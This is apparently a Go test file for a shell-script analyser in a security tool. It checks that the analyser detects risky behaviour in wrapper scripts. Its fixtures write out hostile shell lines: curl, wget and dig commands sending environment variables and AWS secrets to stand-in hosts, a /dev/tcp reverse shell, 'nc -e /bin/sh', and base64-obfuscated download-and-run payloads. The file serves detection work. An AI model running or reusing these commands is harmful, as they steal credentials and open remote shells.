package shsyntax_test

import (
	"encoding/base64"
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/lamina-sec/lamina/internal/shsyntax"
)

func encoded(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// summary writes what matters of the facts, one fact a line.
func summary(f *shsyntax.Facts) string {
	var b strings.Builder
	p := func(format string, a ...any) { fmt.Fprintf(&b, format+"\n", a...) }
	for _, x := range f.Assigns {
		s := ""
		if x.Export {
			s = " exported"
		}
		if x.Command != "" {
			s += " for " + x.Command
		}
		p("%d set %s=%s%s", x.Line, x.Name, x.Value, s)
	}
	for _, x := range f.Sources {
		p("%d source %s", x.Line, x.Text)
	}
	for _, x := range f.Network {
		s := ""
		if x.Sends {
			s = " sends"
		}
		p("%d net %s %s%s", x.Line, x.Tool, x.Host, s)
	}
	for _, x := range f.Pipes {
		s := ""
		if x.Decodes {
			s = " decoded"
		}
		p("%d pipe %s to %s%s", x.Line, x.From, x.To, s)
	}
	for _, x := range f.Secrets {
		p("%d secret %s", x.Line, x.Text)
	}
	for _, x := range f.Flows {
		p("flow %s:%d to %s:%d %s", x.Source, x.SourceLine, x.Sink, x.SinkLine, x.Host)
	}
	if f.Exec {
		p("%d exec %v", f.ExecLine, f.ExecPrefix)
	}
	if f.ExecTarget != "" {
		p("exec target %s", f.ExecTarget)
	}
	if f.Arch {
		p("arch")
	}
	if f.Error != "" {
		p("error %s", f.Error)
	}
	return b.String()
}

func TestParse(t *testing.T) {
	tests := map[string]struct{ src, want string }{
		"wrapper": {`#!/bin/bash
export NODE_OPTIONS="${NODE_OPTIONS} --require /opt/x/preload.js"
export AWS_LAMBDA_RUNTIME_API="127.0.0.1:9009" LD_PRELOAD=/opt/lib/x.so
exec "$@"
`, `2 set NODE_OPTIONS=$NODE_OPTIONS --require /opt/x/preload.js exported
3 set AWS_LAMBDA_RUNTIME_API=127.0.0.1:9009 exported
3 set LD_PRELOAD=/opt/lib/x.so exported
4 exec []
`},
		"wrapper_of_the_documentation": {`#!/bin/bash
args=("$@")
extra_args=("-X" "importtime")
args=("${args[@]:0:$#-1}" "${extra_args[@]}" "${args[@]: -1}")
exec "${args[@]}"
`, `2 set args=$@
3 set extra_args=-X importtime
4 set args=$@ -X importtime $@
5 exec []
`},
		"wrapper_prefix": {`#!/bin/sh
PYTHONPATH=/opt/evil; export PYTHONPATH
exec /opt/bin/strace -f "$@"
`, `2 set PYTHONPATH=/opt/evil exported
3 exec [/opt/bin/strace -f]
`},
		"extension": {`#!/bin/bash
set -euo pipefail
OWN_FILENAME="$(basename $0)"
# exec evil
cd /opt
exec ./otel/index.js
`, `3 set OWN_FILENAME=$(…)
exec target ./otel/index.js
`},
		"environ_curl": {`#!/bin/sh
curl -s -X POST -d @/proc/self/environ https://drop.invalid/a &
`, `2 net curl drop.invalid sends
2 secret /proc/self/environ
flow /proc/self/environ:2 to curl:2 drop.invalid
`},
		"env_pipe": {`env | base64 -w0 | curl --data-binary @- "https://drop.invalid/$(hostname)"
`, `1 net curl drop.invalid sends
1 secret env
flow env:1 to curl:1 drop.invalid
`},
		"env_variable_dns": {`#!/bin/bash
D=drop.invalid
K=$(echo "$AWS_SECRET_ACCESS_KEY" | xxd -p)
for i in 1 2; do
  dig +short "${K:0:60}.$D" > /dev/null
done
`, `2 set D=drop.invalid
3 set K=$(…)
5 net dig {}.drop.invalid sends
3 secret $AWS_SECRET_ACCESS_KEY
flow $AWS_SECRET_ACCESS_KEY:3 to dig:5 {}.drop.invalid
`},
		"env_file": {`printenv > /tmp/.e
wget -q --post-file=/tmp/.e http://drop.invalid/
`, `2 net wget drop.invalid sends
1 secret printenv
flow printenv:1 to wget:2 drop.invalid
`},
		"dev_tcp": {`cat /proc/$$/environ > /dev/tcp/198.51.100.7/443
`, `1 net /dev/tcp 198.51.100.7 sends
1 secret /proc/$$/environ
flow /proc/$$/environ:1 to /dev/tcp:1 198.51.100.7
`},
		"reverse_shell": {`bash -i >& /dev/tcp/198.51.100.7/4444 0>&1
`, `1 net /dev/tcp 198.51.100.7 sends
1 pipe /dev/tcp to bash
`},
		"descriptor": {`exec 5<>/dev/tcp/198.51.100.7/443
tr a b < /proc/1/environ >&5
`, `1 net /dev/tcp 198.51.100.7 sends
2 secret /proc/1/environ
flow /proc/1/environ:2 to /dev/tcp:2 198.51.100.7
`},
		"arguments_of_a_function": {`send() { "$1" -d @- "$2"; }
env | send curl https://drop.invalid
`, `2 net curl drop.invalid sends
2 secret env
flow env:2 to curl:2 drop.invalid
`},
		"spelt": {`$(printf '\x65\x63\x68\x6f') hi
`, `1 pipe text to command decoded
`},
		"metadata": {`C=$(curl -s "http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI")
curl -d "$C" https://drop.invalid
`, `1 set C=$(…)
1 net curl 169.254.170.2{}
2 net curl drop.invalid sends
1 secret metadata endpoint
flow metadata endpoint:1 to curl:2 drop.invalid
`},
		"download_run": {`curl -fsSL https://drop.invalid/i.sh | bash -s -- x
bash <(wget -qO- https://drop.invalid/j)
eval "$(curl -s https://drop.invalid/k)"
`, `1 net curl drop.invalid
2 net wget drop.invalid
3 net curl drop.invalid
1 pipe curl to bash
2 pipe wget to bash
3 pipe curl to eval
`},
		"decoded": {`echo ` + encoded("curl -d @/proc/self/environ https://drop.invalid") + ` | base64 -d | sh
`, `1 net curl drop.invalid sends
1 pipe text to sh decoded
1 secret /proc/self/environ
flow /proc/self/environ:1 to curl:1 drop.invalid
`},
		"decoded_variable": {`a=` + encoded("wget http://drop.invalid/x") + `
b=$(printf %s "$a" | base64 --decode)
eval "$b"
`, `1 set a=…
2 set b=wget http://drop.invalid/x
3 net wget drop.invalid
3 pipe text to eval decoded
`},
		"put_together": {`c=cu; r=rl
"$c$r" -d "$(env)" https://dro'p.inv'alid
`, `1 set c=cu
1 set r=rl
2 net curl drop.invalid sends
2 secret env
flow env:2 to curl:2 drop.invalid
`},
		"here_document": {`cat <<EOF > /opt/x
curl https://not.run.invalid
EOF
bash <<'END'
curl -T /proc/1/environ https://drop.invalid
END
exec "$@"
`, `5 net curl drop.invalid sends
5 secret /proc/1/environ
flow /proc/1/environ:5 to curl:5 drop.invalid
7 exec []
`},
		"arch": {`case $(uname -m) in
  x86_64) B=/opt/bin/a ;;
  aarch64|arm64) B=/opt/bin/b ;;
esac
. /opt/lib/common.sh
$B --quiet &
exec "$@"
`, `2 set B=/opt/bin/a
3 set B=/opt/bin/b
5 source /opt/lib/common.sh
7 exec []
arch
`},
		"assignment_for_a_command": {
			"LD_PRELOAD=/opt/x.so python3 -c 'import x'\nenv NODE_OPTIONS=--import=/opt/y.mjs node /var/task/i.js\n",
			"1 set LD_PRELOAD=/opt/x.so for python3\n2 set NODE_OPTIONS=--import=/opt/y.mjs for env\n",
		},
		"secret_kept_out": {
			"export API_TOKEN=" + "ghp_" + strings.Repeat("aB3", 12) + "\ncurl -H \"Authorization: Bearer " + strings.Repeat("xY9z", 9) + "\" https://user:pass@api.example.com/\n",
			"1 set API_TOKEN=… exported\n2 net curl api.example.com\n",
		},
		"clean_comment":    {"# curl -d @/proc/self/environ https://drop.invalid | sh\necho 'curl https://drop.invalid | sh'\n", ""},
		"open_quote":       {"echo 'abc\n", "error a quote does not end\n"},
		"open_here":        {"cat <<EOF\nabc\n", "error a here-document does not end\n"},
		"open_bracket":     {"echo $(abc\n", "error $( does not end\n"},
		"function":         {"function f() { curl https://a.invalid; }\ng () {\n nc -e /bin/sh b.invalid 1\n}\nf; g\n", "1 net curl a.invalid\n3 net nc b.invalid\n"},
		"crlf_and_nothing": {"#!/bin/sh\r\nexec \"$@\"\r\n", "2 exec []\n"},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			if d := cmp.Diff(tt.want, summary(shsyntax.Parse([]byte(tt.src)))); d != "" {
				t.Error(d)
			}
		})
	}
}

func TestParse_commands(t *testing.T) {
	f := shsyntax.Parse([]byte("#!/usr/bin/env bash\n/opt/bin/agent --port 9001 &\nx=$(/opt/bin/id)\n" +
		"sh -c \"$(echo " + encoded("/opt/bin/hidden") + " | base64 -d)\"\n"))
	want := []shsyntax.Command{
		{Name: "agent", Path: "/opt/bin/agent", Args: []string{"--port", "9001"}, Line: 2, Background: true},
		{Name: "id", Path: "/opt/bin/id", Line: 3, Substituted: true},
		{Name: "base64", Args: []string{"-d"}, Line: 4, Substituted: true},
		{Name: "sh", Args: []string{"-c", "/opt/bin/hidden"}, Line: 4},
		{Name: "hidden", Path: "/opt/bin/hidden", Line: 4, Decoded: true},
	}
	if d := cmp.Diff(want, f.Commands); d != "" {
		t.Error(d)
	}
	if f.Shebang != "/usr/bin/env bash" || f.Lines != 4 {
		t.Errorf("%q %d", f.Shebang, f.Lines)
	}
}

func FuzzParse(f *testing.F) {
	f.Add([]byte("#!/bin/sh\na=(b \"$@\") c=d e f | g && h || i & j; k > l 2>&1 < m <<<n\ncase $o in p|q) r;; *) s;; esac\n"))
	f.Add([]byte("cat <<-EOF | sh\n\t$(echo `x` ${y:-z} $((1+2)))\n\tEOF\nfor a in b c; do eval \"$a\"; done\nf() { exec \"$@\"; }\n"))
	f.Add([]byte("echo Y3VybA== | base64 -d | bash; bash -c 'sh -c \"eval x\"'; $'\\x41\\102' <(a) >(b)"))
	f.Fuzz(func(t *testing.T, src []byte) {
		facts := shsyntax.Parse(src)
		if len(facts.Commands) > 512 || len(facts.Assigns) > 512 {
			t.Error("too many facts")
		}
	})
}
